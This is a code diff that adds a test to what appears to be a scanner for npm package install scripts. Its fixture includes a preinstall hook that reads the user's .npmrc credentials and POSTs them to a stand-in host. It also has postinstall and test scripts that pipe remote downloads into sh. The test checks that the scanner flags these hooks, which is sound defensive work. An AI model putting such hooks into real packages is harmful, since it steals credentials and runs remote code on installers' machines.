@@ -60,3 +60,22 @@ def test_names_that_stand_twice(tmp_path: Path) -> None:
 def test_no_json(tmp_path: Path, data: bytes) -> None:
     found = read_bytes("npm_package", data, tmp_path)
     assert found.failure is not None and found.failure.reason and found.rows == []
+
+
+def test_what_the_commands_do_that_installing_runs(tmp_path: Path) -> None:
+    document = {
+        "name": "x",
+        "scripts": {
+            "preinstall": "node -e \"fetch('https://a.example/c', {method: 'POST', "
+            "body: require('fs').readFileSync(require('os').homedir() + '/.npmrc')})\" || true",
+            "install": "node-gyp rebuild",
+            "postinstall": "curl -s https://b.example/x | sh",
+            "test": "curl -s https://c.example/x | sh",
+        },
+    }
+    found = read_bytes("npm_package", json.dumps(document, indent=1).encode(), tmp_path).rows
+    told = [(r.kind, r.target, r.locator) for r in found[1:] if r.kind != "runs at install"]
+    assert told == [
+        ("collects and sends", "a.example", "line 4"),
+        ("downloads and runs", "b.example", "line 6"),
+    ]
